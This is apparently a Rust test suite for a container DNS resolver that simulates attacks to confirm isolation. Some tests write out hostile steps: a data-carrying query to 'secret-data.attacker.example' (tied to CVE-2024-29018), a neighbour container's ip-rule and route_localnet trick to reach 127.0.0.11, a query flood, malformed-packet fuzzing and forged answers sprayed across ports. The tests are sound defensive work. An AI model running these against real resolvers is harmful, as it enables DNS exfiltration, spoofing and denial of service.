//! What a container might try.

use std::io::{Read, Write};
use std::net::UdpSocket;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, ResponseCode};
use hickory_proto::rr::RecordType;
use serde_json::json;

use crate::lab::{
    Lab, Resolver, addresses, exchange_stream, framed, question, receive_stream, reply, until,
};

/// A container learns nothing of another network: not by name, id, alias or address, and not
/// because a resolver outside sends it there.
#[corten_tier::t1]
fn names_of_another_network_are_not_learned() {
    let lab = Lab::new();
    let _resolver = Resolver::failing("127.0.0.53", ResponseCode::NXDomain);
    lab.resolvers(&["127.0.0.53"]);
    let (mine, yours) = (lab.network("mine", false), lab.network("yours", false));
    let (_web, client) = lab.single(&mine);
    let secret = lab.container("secret");
    lab.attach(&yours, &secret, "10.1.0.2", json!({"Aliases": ["vault"]}));
    let names = ["secret", "vault", "secret.yours", "vault.yours.", &secret.id[..12]];
    for name in names {
        assert_eq!(client.code(name), ResponseCode::NXDomain, "{name}");
    }
    let reverse = client.ask("2.0.1.10.in-addr.arpa", RecordType::PTR);
    assert_eq!(reverse.metadata.response_code, ResponseCode::NXDomain);
    // Its own name in the other's network is no way in either.
    assert_eq!(client.code("web.yours"), ResponseCode::NXDomain);
    assert_eq!(lab.client(&yours, &secret).addresses("vault"), ["10.1.0.2"]);
}

/// Names can carry data. From an internal network none leaves (CVE-2024-29018), to whichever
/// resolver, by whichever transport.
#[corten_tier::t1]
fn no_name_leaves_an_internal_network() {
    let lab = Lab::new();
    let (host, own) = (Resolver::plain("127.0.0.53"), Resolver::plain("127.0.0.54"));
    lab.resolvers(&["127.0.0.53"]);
    let inner = lab.network("inner", true);
    let web = lab.container("web");
    lab.attach(&inner, &web, "10.0.0.2", json!({"Dns": ["127.0.0.54"]}));
    let client = lab.client(&inner, &web);
    let packet = question(1, "secret-data.attacker.example", RecordType::TXT);
    assert_eq!(client.exchange(&packet).metadata.response_code, ResponseCode::ServFail);
    let answer = exchange_stream(&mut client.connect(), &packet);
    assert_eq!(answer.metadata.response_code, ResponseCode::ServFail);
    assert_eq!(client.addresses("web"), ["10.0.0.2"]);
    assert_eq!((host.asked(), own.asked()), (0, 0));
    // A network whose file cannot be read has no way out.
    std::fs::remove_file(lab.path(&format!("root/networks/{inner}.json"))).unwrap();
    lab.detach(&inner, &web);
    lab.attach(&inner, &web, "10.0.0.2", json!({"Dns": ["127.0.0.54"]}));
    let client = lab.client(&inner, &web);
    assert_eq!(client.code("example.org"), ResponseCode::ServFail);
}

/// A neighbour that has got a container to take packets to 127.0.0.0/8 from outside: it may be
/// privileged, and set route_localnet itself.
#[corten_tier::t1]
fn a_neighbour_does_not_reach_the_socket() {
    let lab = Lab::new();
    let app = lab.network("app", false);
    let (web, client) = lab.single(&app);
    let (udp, tcp) = lab.ports(&app, &web);
    let neighbour = lab.container("neighbour");
    lab.attach(&app, &neighbour, "10.0.0.3", json!({}));
    let ip = crate::lab::ip;
    neighbour.inside(|| {
        ip("link add eth0 type veth peer name peer");
        ip("addr add 10.0.0.3/24 dev eth0");
        ip("link set eth0 up");
        ip("route add 127.0.0.11/32 via 10.0.0.2 table 7");
        // Before what says that the address is one's own.
        ip("rule add pref 2 lookup local");
        ip("rule del pref 0");
        ip("rule add pref 1 to 127.0.0.11 lookup 7");
        std::fs::write("/proc/sys/net/ipv4/conf/all/route_localnet", "1").unwrap();
    });
    Lab::hand_over(&neighbour, "peer", &web);
    web.inside(|| {
        ip("link set peer name eth0");
        ip("addr add 10.0.0.2/24 dev eth0");
        ip("link set eth0 up");
        std::fs::write("/proc/sys/net/ipv4/conf/all/route_localnet", "1").unwrap();
    });
    // The packets do arrive: a socket that is not bound to the device hears them.
    let open = web.inside(|| UdpSocket::bind("127.0.0.11:0").unwrap());
    open.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let heard = open.local_addr().unwrap().port();
    neighbour.inside(|| {
        let socket = UdpSocket::bind("10.0.0.3:0").unwrap();
        socket.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        let packet = question(1, "web", RecordType::A);
        socket.send_to(&packet, ("127.0.0.11", heard)).unwrap();
        let mut buffer = [0; 512];
        assert_eq!(open.recv(&mut buffer).unwrap(), packet.len(), "the attack does not work");
        socket.send_to(&packet, ("127.0.0.11", udp)).unwrap();
        assert!(socket.recv(&mut buffer).is_err(), "it was answered");
        let target = format!("127.0.0.11:{tcp}").parse().unwrap();
        let connected = std::net::TcpStream::connect_timeout(&target, Duration::from_millis(500));
        assert!(connected.is_err(), "it was let in");
    });
    assert_eq!(client.addresses("web"), ["10.0.0.2"]);
    assert_eq!(lab.status(&app).answered, 1);
}

/// One container asks as fast as it can; another one does not notice.
#[corten_tier::t1]
fn a_flood_of_one_container_is_not_felt_by_another() {
    let lab = Lab::new();
    let silent = Resolver::silent("127.0.0.53");
    lab.resolvers(&["127.0.0.53"]);
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    let flooder = lab.container("flooder");
    lab.attach(&app, &flooder, "10.0.0.3", json!({}));
    let source = lab.client(&app, &flooder);
    let stop = AtomicBool::new(false);
    let mut times = Vec::new();
    let flood = Instant::now();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            for id in (0..=u16::MAX).cycle() {
                if stop.load(Ordering::SeqCst) {
                    return;
                }
                // Half for the table, half for a resolver that never answers.
                let name = if id % 2 == 0 { "web".into() } else { format!("x{id}.example") };
                let _ = source.socket.send(&question(id, &name, RecordType::A));
            }
        });
        std::thread::sleep(Duration::from_millis(300));
        for _ in 0..300 {
            let begun = Instant::now();
            assert_eq!(client.addresses("flooder"), ["10.0.0.3"]);
            times.push(begun.elapsed());
        }
        let waiting = lab.status(&app).waiting;
        assert!(waiting <= 64, "{waiting} questions of one container are on their way");
        stop.store(true, Ordering::SeqCst);
    });
    times.sort();
    println!("median {:?}, 99 % {:?}", times[150], times[297]);
    let limit = if std::env::var_os(corten_tier::IN_VM).is_some() { 200 } else { 20 };
    assert!(times[150] < Duration::from_millis(limit), "{:?}", times[150]);
    // 64 at a time, each sent twice, and given up after a second and a half.
    let turns = flood.elapsed().as_secs_f64() / 1.5 + 1.0;
    let asked = silent.asked();
    assert!((asked as f64) <= turns.ceil() * 128.0, "{asked} in {turns} turns");
    until("all are given up", || lab.status(&app).waiting == 0);
}

/// A question that is sent again is asked once.
#[corten_tier::t1]
fn nothing_is_multiplied() {
    let lab = Lab::new();
    let silent = Resolver::silent("127.0.0.53");
    lab.resolvers(&["127.0.0.53"]);
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    let packet = question(9, "example.org", RecordType::A);
    for _ in 0..50 {
        client.socket.send(&packet).unwrap();
    }
    assert_eq!(client.receive().unwrap().metadata.response_code, ResponseCode::ServFail);
    client.socket.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    assert!(client.receive().is_none(), "one question, one answer");
    assert_eq!(silent.asked(), 2);
}

#[corten_tier::t1]
fn bad_packets_are_survived() {
    let lab = Lab::new();
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    let pid = lab.status(&app).pid;
    let good = question(1, "web", RecordType::A);
    let mut packets: Vec<Vec<u8>> = (0..good.len()).map(|end| good[..end].to_vec()).collect();
    for at in 0..good.len() {
        for bit in 0..8 {
            let mut packet = good.clone();
            packet[at] ^= 1 << bit;
            packets.push(packet);
        }
    }
    let header = [0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for loops in [&[0xc0, 12][..], &[0xc0, 14, 0xc0, 12], &[1, b'a', 0xc0, 12], &[0xff; 300]] {
        packets.push([&header[..], loops, &[0, 1, 0, 1]].concat());
    }
    packets.push(vec![0; 60_000]);
    let mut buffer = [0; 65536];
    for packet in &packets {
        client.socket.send(packet).unwrap();
        if packet.len() < 12 || packet[2] & 0x80 != 0 {
            continue; // No answer to what is no question.
        }
        let length = client.socket.recv(&mut buffer).unwrap_or_else(|_| panic!("{packet:?}"));
        assert!(length <= packet.len() + 28, "{length} bytes to {packet:?}");
    }
    for packet in &packets {
        let mut stream = client.connect();
        // Those that are too long are not even read.
        let _ = stream.write_all(&framed(packet));
    }
    assert_eq!(client.addresses("web"), ["10.0.0.2"]);
    assert_eq!(lab.status(&app).pid, pid);
}

/// Connections that say nothing, half a question, or do not take their answers.
#[corten_tier::t1]
fn half_open_connections_keep_nobody_out() {
    let lab = Lab::new();
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    let packet = framed(&question(1, "web", RecordType::A));
    let mut held = Vec::new();
    for number in 0..200 {
        let mut stream = client.connect();
        let part = [0, 1, 2, 5, packet.len() - 1][number % 5];
        let _ = stream.write_all(&packet[..part]);
        held.push(stream);
    }
    assert!(lab.status(&app).streams <= 16);
    let mut stream = client.connect();
    let answer = exchange_stream(&mut stream, &question(1, "web", RecordType::A));
    assert_eq!(addresses(&answer), ["10.0.0.2"]);
    // One that asks and asks and never reads is not read either.
    let greedy = client.connect();
    greedy.set_nonblocking(true).unwrap();
    let mut sent = 0;
    let begun = Instant::now();
    while begun.elapsed() < Duration::from_secs(1) {
        sent += (&greedy).write(&packet.repeat(100)).unwrap_or(0);
    }
    println!("{sent} bytes were taken of one that does not read");
    assert!(sent < 20 << 20, "{sent}");
    assert_eq!(client.addresses("web"), ["10.0.0.2"]);
    drop(held);
}

/// A client that says that it is done, and still wants its answer.
#[corten_tier::t1]
fn a_half_closed_connection_gets_its_answers() {
    let lab = Lab::new();
    let _resolver = Resolver::plain("127.0.0.53");
    lab.resolvers(&["127.0.0.53"]);
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    let mut stream = client.connect();
    let both = [question(1, "web", RecordType::A), question(2, "example.org", RecordType::A)];
    stream.write_all(&both.map(|packet| framed(&packet)).concat()).unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut answers: Vec<String> =
        (0..2).flat_map(|_| addresses(&receive_stream(&mut stream).unwrap())).collect();
    answers.sort();
    assert_eq!(answers, ["10.0.0.2", "192.0.2.1"]);
    assert_eq!(stream.read(&mut [0; 1]).unwrap(), 0, "and then it is over");
    until("it is closed", || lab.status(&app).streams == 0);
}

/// Somebody answers in the resolver's place: with wrong numbers, wrong questions, loops, and from
/// another address. The right answer comes last, and is taken.
#[corten_tier::t1]
fn a_stranger_s_answer_is_not_taken() {
    let lab = Lab::new();
    let _resolver = Resolver::new("127.0.0.53", |asked, _| {
        let forged = |change: &dyn Fn(&mut Message)| {
            let mut message = Message::from_vec(&reply(asked, &["6.6.6.6"])).unwrap();
            change(&mut message);
            message.to_vec().unwrap()
        };
        let mut looped = reply(asked, &["6.6.6.6"]);
        let answer = question(0, "example.org", RecordType::A).len();
        looped[answer..answer + 2].copy_from_slice(&[0xc0, answer as u8]);
        vec![
            forged(&|message| message.metadata.id ^= 1),
            forged(&|message| drop(message.queries.pop())),
            forged(&|message| {
                message.queries[0].set_query_type(RecordType::TXT);
            }),
            looped,
            Vec::from(*b"\0\0"),
            reply(asked, &["192.0.2.1"]),
        ]
    });
    lab.resolvers(&["127.0.0.53"]);
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    // Everybody on this machine guesses at the ports that questions come from.
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        let guess = question(0, "example.org", RecordType::A);
        let forged = reply(&Message::from_vec(&guess).unwrap(), &["6.6.6.6"]);
        let stranger = UdpSocket::bind("127.0.0.66:0").unwrap();
        let stop = &stop;
        scope.spawn(move || {
            while !stop.load(Ordering::SeqCst) {
                for port in 32768..61000 {
                    let _ = stranger.send_to(&forged, ("127.0.0.1", port));
                }
            }
        });
        for _ in 0..50 {
            assert_eq!(client.addresses("example.org"), ["192.0.2.1"]);
        }
        stop.store(true, Ordering::SeqCst);
    });
}

/// Each question goes out from another port and under another number.
#[corten_tier::t1]
fn numbers_and_ports_cannot_be_guessed() {
    use std::collections::BTreeSet;
    use std::sync::{Arc, Mutex};
    let lab = Lab::new();
    let ids = Arc::new(Mutex::new(BTreeSet::new()));
    let seen = ids.clone();
    let _resolver = Resolver::new("127.0.0.53", move |asked, _| {
        seen.lock().unwrap().insert(asked.metadata.id);
        vec![reply(asked, &["192.0.2.1"])]
    });
    lab.resolvers(&["127.0.0.53"]);
    let app = lab.network("app", false);
    let (_web, client) = lab.single(&app);
    for _ in 0..100 {
        client.addresses("example.org");
    }
    assert!(ids.lock().unwrap().len() >= 98, "{:?}", ids.lock().unwrap());
}
